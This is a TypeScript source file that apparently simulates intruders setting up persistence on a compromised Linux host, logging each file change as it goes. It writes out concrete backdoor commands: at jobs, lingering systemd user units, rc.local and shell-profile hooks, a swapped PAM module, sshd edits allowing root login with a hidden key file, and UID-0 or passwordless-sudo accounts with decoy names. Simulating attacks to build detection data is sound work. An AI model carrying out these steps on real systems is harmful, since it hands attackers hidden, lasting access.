import type { Foothold } from '../../gangs/gang.ts'
import type { Act } from '../../schedule.ts'
import { baseName, word } from './draw.ts'

/** A job of at(1), which comes once and sets the next one. */
export function* atJob(foothold: Foothold, line: string): Act {
  const { hands, random } = foothold
  const when = `now + ${random.integer(1, 3)} ${random.pick(['minutes', 'hours'])}`
  const at = yield* hands.pipe(`echo '${line}' | at ${when}`, [['at', ...when.split(' ')]])
  const name = `a${random.hex(5)}${random.hex(8)}`
  foothold.write(`/var/spool/cron/atjobs/${name}`, { what: 'at-job', isNew: true, mode: '0100700' }, at)
}

/** A unit of the user's own manager, which runs on after the last logout. */
export function* userUnit(foothold: Foothold, name: string): Act {
  const { hands, random } = foothold
  const { user } = hands
  const path = `${user.home}/.config/systemd/user/${name}.service`
  yield* hands.run(['mkdir', '-p', `${user.home}/.config/systemd/user`])
  const shell = yield* hands.builtin(`cat > ${path}`)
  if (!foothold.write(path, { what: 'user-unit', isNew: true }, shell)) return
  yield* hands.run(['systemctl', '--user', 'daemon-reload'])
  yield* hands.run(['systemctl', '--user', 'enable', '--now', `${name}.service`])
  if (random.chance(0.7)) yield* hands.run(['loginctl', 'enable-linger', user.name])
}

export function* rcLocal(foothold: Foothold, line: string): Act {
  if (!foothold.isRoot) return
  const shell = yield* foothold.hands.builtin(`printf '#!/bin/sh -e\\n${line}\\nexit 0\\n' > /etc/rc.local`)
  if (foothold.write('/etc/rc.local', { what: 'rc-local', mode: '0100755' }, shell))
    yield* foothold.changeMode('/etc/rc.local', 0o755)
}

/** Whoever logs in starts it. */
export function* shellProfile(foothold: Foothold, line: string): Act {
  const { hands, random, isRoot } = foothold
  const { home } = hands.user
  const path = isRoot && random.chance(0.5) ? `/etc/profile.d/${word(random, 4, 7)}.sh` : `${home}/.bashrc`
  const shell = yield* hands.builtin(`echo '${line}' >> ${path}`)
  foothold.write(path, { what: 'profile', isNew: path.startsWith('/etc/') }, shell)
}

/** A module in PAM's stack that knows one more password. */
export function* pamDoor(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  const { hands, random, gang } = foothold
  const staged = `/tmp/${word(random, 5, 8)}.so`
  if (!(yield* foothold.fetch(gang.traits.download.paths.at(-1) ?? '/p', staged, { what: 'library' }))) return
  const folder = '/usr/lib/x86_64-linux-gnu/security'
  const isReplaced = random.chance(0.5)
  const target = `${folder}/${isReplaced ? 'pam_unix.so' : random.pick(['pam_auth.so', 'pam_linux.so'])}`
  const cp = yield* hands.run(['cp', '-f', staged, target])
  foothold.write(target, { what: 'pam', isNew: !isReplaced }, cp)
  if (!isReplaced) {
    const sed = yield* hands.run([
      'sed',
      '-i',
      `1i auth sufficient ${baseName(target)}`,
      '/etc/pam.d/common-auth',
    ])
    foothold.write('/etc/pam.d/common-auth', { what: 'pam', isNew: false }, sed)
  }
  const rm = yield* hands.run(['rm', '-f', staged])
  foothold.remove(staged, rm)
}

/** sshd reads keys from one place more, and lets root in by password again. */
export function* sshConfig(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  const { hands, random } = foothold
  const config = '/etc/ssh/sshd_config'
  const keys = `/etc/ssh/.${word(random, 3, 6)}`
  const edits = [
    `s|^#\\?AuthorizedKeysFile.*|AuthorizedKeysFile .ssh/authorized_keys ${keys}|`,
    's/^#\\?PermitRootLogin.*/PermitRootLogin yes/',
  ]
  for (const edit of edits) {
    const sed = yield* hands.run(['sed', '-i', edit, config])
    foothold.write(config, { what: 'ssh-config', isNew: false }, sed)
  }
  const shell = yield* hands.builtin(
    `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${random.text(40, 'abcdefghijklmnopqrstuvwxyz')}' > ${keys}`,
  )
  foothold.write(keys, { what: 'authorized-keys', isNew: true, mode: '0100600' }, shell)
  yield* hands.run(['systemctl', 'reload', 'ssh'])
}

/** An account of their own, with rights or with the user id of root. */
export function* secondUser(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  const { hands, random } = foothold
  const name = random.pick(['sysadm', 'lsb', 'ntpd', 'systemd-core', 'hilda', 'backup2'])
  const useradd = yield* hands.run(
    random.chance(0.4)
      ? ['useradd', '-o', '-u', '0', '-g', '0', '-M', '-d', '/root', name]
      : ['useradd', '-m', '-s', '/bin/bash', '-G', 'sudo', name],
  )
  for (const path of ['/etc/passwd', '/etc/shadow']) {
    foothold.write(
      path,
      { what: 'account', isNew: false, mode: path.endsWith('w') ? '0100640' : '0100644' },
      useradd,
    )
  }
  const shell = yield* hands.builtin(`echo '${name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/${name}`)
  foothold.write(`/etc/sudoers.d/${name}`, { what: 'sudoers', isNew: true, mode: '0100440' }, shell)
}
